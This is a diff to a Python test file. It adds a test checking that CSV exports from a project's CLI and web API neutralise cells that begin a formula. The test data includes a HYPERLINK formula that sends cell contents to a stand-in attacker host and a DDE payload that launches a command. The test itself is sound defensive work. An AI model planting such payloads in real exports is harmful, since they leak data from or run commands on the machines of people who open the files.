@@ -11,10 +11,15 @@ from pathlib import Path
 
 import pyarrow.parquet as pq
 import pytest
+from fastapi.testclient import TestClient
+from typer.testing import CliRunner
 
+from tumen.cli import app as cli_app
+from tumen.config import Settings
 from tumen.export import export, iter_export
 from tumen.models import Analysis, Document, Event, Evidence
 from tumen.store import SQLiteStore, open_store
+from tumen.web.app import create_app
 
 
 def _fill(store: SQLiteStore, start: int, count: int) -> None:
@@ -91,3 +96,24 @@ def test_exports_stream_in_constant_memory(tmp_path: Path, fmt: str) -> None:
     assert large_chunks >= 5 and large_chunks > small_chunks  # bytes leave as they are made
     assert large < small * 1.5, (small, large)  # 4x the rows, not 4x the memory
     s.close()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
+    db = str(tmp_path / "f.db")
+    s = open_store(db)
+    for n, title in enumerate(FORMULAS):
+        text = f"Report {n} about a formula title. " * 5
+        url = f"https://example.org/f{n}"
+        s.add_document(Document(url=url, canonical_url=url, text=text, title=title,
+                                content_hash=hashlib.sha256(text.encode()).hexdigest()), None)
+    s.close()
+    cli = CliRunner().invoke(cli_app, ["export", "--what", "documents", "--format", "csv",
+                                       "--db", db])
+    api = TestClient(create_app(Settings(db=db))).get("/api/v1/export?what=documents&format=csv")
+    for body in (cli.stdout, api.text):
+        titles = [row["title"] for row in csv.DictReader(io.StringIO(body, newline=""))]
+        assert titles == ["'" + t.replace("\r", "\n") for t in FORMULAS]
